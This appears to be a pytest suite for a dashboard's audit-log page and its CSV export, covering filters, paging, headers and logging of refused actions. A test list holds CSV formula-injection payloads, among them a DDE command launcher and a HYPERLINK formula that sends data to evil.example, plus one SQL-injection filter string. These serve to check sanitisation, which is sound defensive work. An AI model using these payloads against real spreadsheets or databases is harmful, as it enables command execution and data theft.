"""The screen of the audit log: words, filters, pages, CSV; and what the web writes into it."""

import ast
import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest

from dashboard import db
from dashboard.archive import SECTIONS
from dashboard.config import resource_root
from dashboard.models import AuditEvent, RunState, audit, chain
from dashboard.web import audit_words
from dashboard.web.audit_csv import HEADER, harmless
from tests.backup.conftest import Unchanged

PAGE = "/u/daily/admin/audit"
CSV = "/u/daily/admin/audit.csv"
FILE = "3f" * 32


@pytest.fixture
def alice(client, cast, login):
    return login(client, cast.alice)


@pytest.fixture
def log(cast):
    """`log("key.create", "K1", ...)`: one event of the unit daily, by alice."""

    def add(action="key.create", subject="", *, by=cast.alice, unit=cast.daily, day="", **more):
        if day:
            more["at"] = int(
                datetime.strptime(day, "%Y-%m-%d %H:%M").replace(tzinfo=UTC).timestamp()
            )
        audit(action, by=by, unit=unit, subject=subject, **more)

    return add


def subjects(page: str) -> list[str]:
    return re.findall(r'<span class="mono">([^<]*)</span>', page)


def rows_of(response) -> list[dict[str, str]]:
    text = response.get_data().decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_an_empty_log_says_what_will_be_in_it(alice, cast):
    page = alice.get(PAGE).text
    assert "Nothing happened yet" in page
    assert "Download as CSV" not in page


def test_events_are_listed_newest_first_with_words(alice, log, cast):
    log("key.create", "FIRST")
    log("backup.import", by="bob@harbour.example", outcome="refused", reason="It was <b>late</b>.")
    log("key.delete", "THEIRS", unit=cast.weekly)
    page = alice.get(PAGE).text
    assert page.index("Import of a backup") < page.index("FIRST")
    assert "It was &lt;b&gt;late&lt;/b&gt;." in page
    assert "Added a config key" in page
    assert ">refused</span>" in page
    assert "THEIRS" not in page


def test_details_are_told_in_words(alice, log):
    counts = {"plugins": 17, "assets": 0, "config_keys": 43}
    source = "Harbour Daily, 2026-11-22T23:40:00Z"
    log("backup.import", counts=counts, file_sha256=FILE, content="c0ffee", source=source)
    log("backup.undo", outcome="failed", reason="OSError")
    log("member.role", "rita@harbour.example", role="power_user")
    page = alice.get(PAGE).text
    assert f"from {source} · Plugins 17, Config keys 43 · file" in page
    assert f'title="SHA-256 {FILE}">{FILE[:12]}…</span>' in page
    assert "c0ffee" not in page
    assert "The server made a mistake (OSError). Nothing was changed." in page
    assert "role: Power user" in page


def test_whatever_somebody_made_of_an_event_the_log_can_be_read(alice, log):
    log("key.create", "ODD")
    db.database.execute_sql("DROP TRIGGER audit_event_no_update")
    db.database.execute_sql("UPDATE audit_event SET detail = 'no JSON', action = 'x.y'")
    assert "detail: no JSON" in alice.get(PAGE).text
    assert rows_of(alice.get(CSV))[0]["more"] == "detail: no JSON"


def test_log_ins_of_members_are_listed_and_of_nobody_else(alice, log, cast):
    log("login", unit=None, by=cast.rita)
    log("login", unit=None, by=cast.mallory, outcome="refused")
    log("login", unit=None, by="unknown address", outcome="refused")
    page = alice.get(PAGE).text
    assert page.count("Log-in") == 1
    assert f'<td class="audit-who">{cast.rita.email}</td>' in page
    assert [row["who"] for row in rows_of(alice.get(CSV))] == [cast.rita.email]


def test_older_events_are_on_the_next_page(alice, log, cast):
    for number in range(60):
        log(subject=f"E{number:02d}", unit=None if number % 7 == 0 else cast.daily)
    page = alice.get(PAGE).text
    assert subjects(page) == [f"E{number:02d}" for number in range(59, 9, -1)]
    older = page.split(">Older</a>")[0].rpartition('href="')[2].rstrip('"')
    page = alice.get(older).text
    assert subjects(page) == [f"E{number:02d}" for number in range(9, -1, -1)]
    assert ">Newest</a>" in page
    assert ">Older</a>" not in page


@pytest.mark.parametrize("before", ["x", "-1", "1" * 30, "%00"])
def test_a_strange_page_is_the_first(alice, log, before):
    log(subject="ONLY")
    page = alice.get(PAGE, query_string={"before": before})
    assert (page.status_code, subjects(page.text)) == (200, ["ONLY"])


@pytest.fixture
def varied(log, cast):
    log("key.create", "A", day="2026-03-01 00:00")
    log("key.delete", "B", by=cast.bob, day="2026-03-01 23:59", outcome="refused")
    log("plugin.install", "C", by=cast.bob, day="2026-03-02 00:00")
    log("login", "D", by=cast.rita, unit=None, day="2026-03-02 12:00", outcome="refused")
    log("application.add", "E", by="command line", day="2026-03-03 00:00")


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ({}, "EDCBA"),
        ({"group": "keys"}, "BA"),
        ({"group": "people"}, "D"),
        ({"group": "workspaces"}, "E"),
        ({"outcome": "refused"}, "DB"),
        ({"who": "bob"}, "CB"),
        ({"who": " HARBOUR.example "}, "DCBA"),
        ({"who": "command"}, "E"),
        ({"who": "%"}, ""),
        ({"who": "_"}, ""),
        ({"since": "2026-03-02"}, "EDC"),
        ({"until": "2026-03-01"}, "BA"),
        ({"since": "2026-03-02", "until": "2026-03-02"}, "DC"),
        ({"since": "2026-03-03", "until": "2026-03-01"}, ""),
        ({"group": "keys", "outcome": "refused", "who": "bob", "until": "2026-03-01"}, "B"),
        ({"group": "keys", "outcome": "failed"}, ""),
    ],
)
def test_filters_hold_together_on_the_page_and_in_the_csv(alice, varied, query, found):
    page = alice.get(PAGE, query_string=query).text
    assert subjects(page) == list(found)
    assert ("Nothing fits" in page) is not found
    assert [row["subject"] for row in rows_of(alice.get(CSV, query_string=query))] == list(found)


@pytest.mark.parametrize(
    "query",
    [
        {"group": "x"},
        {"group": "' OR 1=1"},
        {"outcome": "DONE"},
        {"since": "yesterday"},
        {"since": "2026-02-30"},
        {"until": "9999-12-31"},
        {"since": "0001-01-01"},
        {"until": "\x00"},
        {"before": ""},
    ],
)
def test_a_filter_that_makes_no_sense_is_none(alice, varied, query):
    answer = alice.get(PAGE, query_string=query)
    assert (answer.status_code, subjects(answer.text)) == (200, list("EDCBA"))
    assert len(rows_of(alice.get(CSV, query_string=query))) == 5


def test_the_form_shows_what_was_asked_and_links_keep_it(alice, log, cast):
    for number in range(51):
        log(subject=f"K{number}", day="2026-03-01 12:00")
    query = {"group": "keys", "outcome": "done", "who": 'ali"ce', "since": "2026-03-01"}
    page = alice.get(PAGE, query_string=query).text
    assert '<option value="keys" selected>' in page
    assert "<option selected>done</option>" in page
    assert 'value="ali&#34;ce"' in page
    assert 'name="since" value="2026-03-01"' in page
    page = alice.get(PAGE, query_string=query | {"who": "alice"}).text
    kept = "group=keys&amp;outcome=done&amp;who=alice&amp;since=2026-03-01"
    assert re.search(rf'href="{PAGE}\?before=\d+&amp;{kept}">Older', page)
    assert f'href="{CSV}?{kept}"' in page


def test_a_page_costs_the_same_number_of_queries_whatever_is_on_it(alice, log, query_count):
    log()
    alice.get(PAGE)
    with query_count() as few:
        alice.get(PAGE)
    for _ in range(60):
        log("backup.import", counts={"plugins": 1}, file_sha256=FILE)
    with query_count() as many:
        alice.get(PAGE)
    assert len(many) == len(few)


# --- CSV ---


def test_the_csv_has_everything_and_is_a_download(alice, log, cast):
    counts = {"plugins": 17, "config_keys": 43}
    log("key.create", 'a "quoted", name\r\nand more', day="2026-03-01 08:09")
    log(
        "backup.import",
        outcome="refused",
        reason="Füße, late.",
        counts=counts,
        file_sha256=FILE,
        content="c0ffee",
        source="Harbour Daily, 2026",
        extra=3,
    )
    answer = alice.get(CSV)
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    name = rf'attachment; filename="daily-audit-{datetime.now(UTC):%Y}-\d\d-\d\d\.csv"'
    assert re.fullmatch(name, answer.headers["Content-Disposition"])
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.get_data().endswith(b'"\r\n')
    imported, made = rows_of(answer)
    assert tuple(imported) == HEADER
    assert made["subject"] == 'a "quoted", name\r\nand more'
    assert (made["number"], made["time (UTC)"]) == ("1", "2026-03-01T08:09:00Z")
    assert imported | {"time (UTC)": ""} == {
        "number": "2",
        "time (UTC)": "",
        "who": cast.alice.email,
        "unit": "Harbour Daily",
        "action": "backup.import",
        "what": "Import of a backup",
        "subject": "",
        "outcome": "refused",
        "reason": "Füße, late.",
        "source": "Harbour Daily, 2026",
        "file SHA-256": FILE,
        "content digest": "c0ffee",
        "counts": "Plugins 17, Config keys 43",
        "more": "extra: 3",
        "tag": AuditEvent.get_by_id(2).tag,
    }


HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "＝1",
    "＋1",
    "－1",
    "＠A",
    "-2+3+cmd|' /C calc'!D2",
    '"=1',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_computed_by_a_spreadsheet(alice, log, cast, text):
    log("key.create", text, by=text, reason=text, source=text, other=text)
    cast.daily.name = text
    cast.daily.save()
    log("key.create", text)
    for row in rows_of(alice.get(CSV)):
        for cell in row.values():
            assert not cell.startswith(
                ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
            )
            assert not cell.lstrip().startswith(("=", "+", "-", "@"))
        # Nothing is lost: without the apostrophe it is what was said.
        assert row["subject"] in (text, f"'{text}")


@pytest.mark.parametrize(
    "text", ["", "plain", "a=b", "1-1", "'quoted", "K-1", "maja@harbour.example"]
)
def test_what_is_harmless_stays_as_it_is(text):
    assert harmless(text) == text


def test_every_cell_stands_in_quotes(alice, log):
    log("key.create", "a;=1+1")
    line = alice.get(CSV).get_data().decode().split("\r\n")[1]
    assert re.fullmatch(r'("[^"]*",){14}"[^"]*"', line)


def test_a_long_log_comes_in_parts_and_whole(alice, log, cast, monkeypatch, query_count):
    monkeypatch.setattr("dashboard.models.events.BATCH_EVENTS", 50)
    for number in range(230):
        log(subject=f"E{number}", unit=None if number % 3 else cast.daily)
    with query_count() as queries:
        answer = alice.get(CSV)
        parts = list(answer.iter_encoded())
    assert len(parts) > 1
    found = list(csv.DictReader(io.StringIO(b"".join(parts).decode(), newline="")))
    assert [row["subject"] for row in found] == [f"E{number}" for number in range(229, -1, -1)]
    assert len(queries) < 30


# --- what the web writes into it ---


def the_event() -> tuple[str, str, str, dict]:
    (event,) = AuditEvent.select()
    return event.action, event.outcome, event.user_email, json.loads(event.detail)


def test_a_backup_password_that_is_too_short_is_an_attempt(alice, cast):
    with Unchanged(cast.daily, cast.weekly):
        alice.post("/u/daily/admin/backup/export", data={"password": "abc"})
    action, outcome, who, detail = the_event()
    assert (action, outcome, who) == ("backup.export", "refused", cast.alice.email)
    assert "at least 4 characters" in detail["reason"]


def test_an_upload_without_a_file_is_an_attempt(alice, cast):
    with Unchanged(cast.daily, cast.weekly):
        alice.post("/u/daily/admin/backup/validate", data={"password": "a secret word"})
    action, outcome, _, detail = the_event()
    assert (action, outcome) == ("backup.validate", "refused")
    assert "Choose a backup file" in detail["reason"]
    assert "a secret word" not in str(detail)


def test_an_upload_that_is_no_backup_is_an_attempt(alice, cast):
    form = {"file": (io.BytesIO(b"GIF89a"), "x.dbk"), "password": "a secret word"}
    with Unchanged(cast.daily, cast.weekly):
        alice.post("/u/daily/admin/backup/validate", data=form)
    action, outcome, _, detail = the_event()
    assert (action, outcome) == ("backup.validate", "refused")
    assert "not a Dashboard backup" in detail["reason"]
    assert len(detail["file_sha256"]) == 64


def test_a_ticket_that_nobody_was_given_is_an_attempt(alice, cast):
    with Unchanged(cast.daily, cast.weekly):
        alice.post("/u/daily/admin/backup/import", data={"ticket": "made-up", "unit_name": ""})
    action, outcome, _, detail = the_event()
    assert (action, outcome) == ("backup.import", "refused")
    assert "no longer open" in detail["reason"]
    assert "made-up" not in str(detail)


def test_who_is_kept_out_by_the_role_is_written_down(client, cast, login):
    bob = login(client, cast.bob)
    with Unchanged(cast.daily, cast.weekly):
        assert (
            bob.post("/u/daily/admin/backup/export", data={"password": "abcd"}).status_code == 403
        )
        assert bob.get("/u/daily/admin/backup").status_code == 403  # who only looks is not
    action, outcome, who, _ = the_event()
    assert (action, outcome, who) == ("access.refuse", "refused", cast.bob.email)
    assert AuditEvent.get().subject == "backups.export"
    assert chain.verify().fault is None


# --- words ---


def actions_in_the_code() -> set[str]:
    """Every action that a call of `audit` or `changing` names as a string."""
    found = set()
    for file in (resource_root() / "dashboard").rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.Constant) and re.fullmatch(
                r"(application|plugin|profile|workspace|key|member|user|unit|demo|access)\.[a-z]+",
                str(node.value),
            ):
                found.add(node.value)
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("audit", "changing"):
                found |= {
                    arg.value
                    for arg in node.args
                    if isinstance(arg, ast.Constant) and isinstance(arg.value, str)
                }
    return found


@pytest.mark.slow
def test_every_action_has_its_words_and_is_in_one_group():
    grouped = [action for _, actions in audit_words.GROUPS.values() for action in actions]
    assert len(grouped) == len(set(grouped))
    backups = {name for name in grouped if name.startswith("backup.")}
    assert actions_in_the_code() <= set(grouped)
    assert set(grouped) - backups <= actions_in_the_code()


def test_every_end_of_a_run_can_be_asked_for():
    assert set(RunState) - {"uploaded", "running"} == set(audit_words.OUTCOMES)


def test_counts_are_told_in_the_words_of_the_backup_page():
    told = audit_words.counts_in_words({section.name: 1 for section in SECTIONS})
    assert "_" not in told
